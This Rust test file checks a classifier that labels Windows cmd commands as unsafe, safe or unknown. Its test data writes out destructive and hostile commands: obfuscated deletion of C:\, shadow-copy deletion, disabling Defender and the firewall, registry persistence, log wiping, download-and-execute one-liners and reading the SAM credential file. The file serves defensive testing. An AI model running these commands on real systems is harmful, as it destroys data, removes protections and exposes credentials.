use std::sync::OnceLock;

use proptest::prelude::*;

use crate::code::{Language, Safety, check};
use crate::secret::SecretScanner;

fn run(text: &str) -> (Safety, String) {
    static SECRETS: OnceLock<SecretScanner> = OnceLock::new();
    let report = check(text, &Language::Cmd, SECRETS.get_or_init(|| SecretScanner::new().unwrap()));
    (report.verdict, report.findings.first().map(|finding| finding.id.to_string()).unwrap_or_default())
}

#[track_caller]
fn all(verdict: Safety, rows: &[(&str, &str)]) {
    let wrong: Vec<String> = rows
        .iter()
        .map(|(text, id)| (text, id, run(text)))
        .filter(|(_, id, (found, worst))| *found != verdict || worst != *id)
        .map(|(text, id, got)| format!("{text:?}: {got:?}, not {verdict:?} {id:?}"))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_destroys_is_unsafe_however_it_is_spelled() {
    all(
        Safety::Unsafe,
        &[
            ("del /f /s /q C:\\*", "rm_root"),
            ("rd /s /q C:\\", "rm_root"),
            ("rmdir /s /q %USERPROFILE%", "rm_root"),
            ("rd/s/q C:\\Windows", "rm_root"),
            ("d^e^l /s /q C:\\", "rm_root"),
            ("d\"e\"l /s /q C:\\", "rm_root"),
            ("@echo off\r\ndel /s /q C:\\\r\n", "rm_root"),
            ("echo hi & rd /s /q C:\\", "rm_root"),
            ("echo hi && (rd /s /q C:\\)", "rm_root"),
            ("set x=rd\n%x% /s /q C:\\", "rm_root"),
            ("set \"x=zrdz\"\n%x:~1,2% /s /q C:\\", "rm_root"),
            ("set x=rxd\n%x:x=% /s /q C:\\", "rm_root"),
            ("%ComSpec% /c rd /s /q C:\\", "rm_root"),
            ("%COMSPEC:~-7% /c rd /s /q C:\\", "rm_root"),
            ("cmd /c \"rd /s /q C:\\\"", "rm_root"),
            ("start \"\" /b cmd /c rd /s /q C:\\", "rm_root"),
            ("call rd /s /q C:\\", "rm_root"),
            ("if exist C:\\x rd /s /q C:\\", "rm_root"),
            ("if \"a\"==\"a\" rd /s /q C:\\", "rm_root"),
            ("for %i in (1 2) do rd /s /q C:\\", "rm_root"),
            ("for /f %i in ('rd /s /q C:\\') do echo %i", "rm_root"),
            ("forfiles /p C:\\ /c \"cmd /c rd /s /q C:\\\"", "rm_root"),
            ("rd ^\n/s /q C:\\", "rm_root"),
            ("format D: /q /y", "format_drive"),
            ("diskpart /s x.txt", "format_drive"),
            ("vssadmin delete shadows /all /quiet", "backup_delete"),
            ("wmic shadowcopy delete", "backup_delete"),
            ("bcdedit /set {default} recoveryenabled no", "system_stop"),
            ("reg delete HKLM\\Software /f", "registry_delete"),
            ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y", "persistence"),
            ("schtasks /delete /tn * /f", "schedule"),
            ("sc stop WinDefend", "firewall"),
            ("netsh advfirewall set allprofiles state off", "firewall"),
            ("net user x y /add", "account"),
            ("wevtutil cl Security", "history_wipe"),
            ("certutil -urlcache -f http://x/a a", "downloader"),
            ("bitsadmin /transfer x http://x/a C:\\a", "downloader"),
            ("powershell -c \"iwr http://x | iex\"", "pipe_to_shell"),
            ("takeown /f C:\\Windows /r", "chmod_recursive"),
            ("robocopy empty C:\\data /mir", "sync_delete"),
            ("echo x > C:\\Windows\\System32\\drivers\\etc\\hosts", "protected_write"),
            ("type C:\\Windows\\System32\\config\\SAM", "credential_read"),
            ("shutdown /s /t 0", "system_stop"),
        ],
    );
}

#[test]
fn what_reads_is_safe_and_what_is_not_known_is_unknown() {
    all(
        Safety::Safe,
        &[
            ("dir /s /b *.txt", ""),
            ("type README.md | findstr TODO", ""),
            ("echo del /s /q C:\\", ""),
            ("rem rd /s /q C:\\", ""),
            (":: rd /s /q C:\\", ""),
            ("cd src && dir", ""),
            ("ipconfig /all > nul 2>&1", ""),
            ("git status", ""),
            ("reg query HKLM\\Software", ""),
            ("schtasks /query", ""),
            ("if exist a.txt (type a.txt) else echo none", ""),
        ],
    );
    all(
        Safety::Unknown,
        &[
            ("%X% /s", "unresolved_command"),
            ("rd /s /q %DIR%", "unresolved_target"),
            ("rd /s /q build", "rm_rf"),
            ("del notes.txt", "rm_file"),
            ("deploy.bat", "unknown_program"),
        ],
    );
}

proptest! {
    #[test]
    fn any_text_is_judged(text in "[a-zA-Z%!^&|()<>\"'\\\\ \n=/:~,.0-9-]{0,120}") {
        run(&text);
    }
}

#[test]
fn hostile_texts_end() {
    for unit in
        ["(", "%", "^", "\"", "&", "|", "if ", "for ", "cmd /c ", "call ", "set a=%a%%a%&", "%a:~1,1%", ">"]
    {
        run(&unit.repeat(100_000 / unit.len()));
    }
}
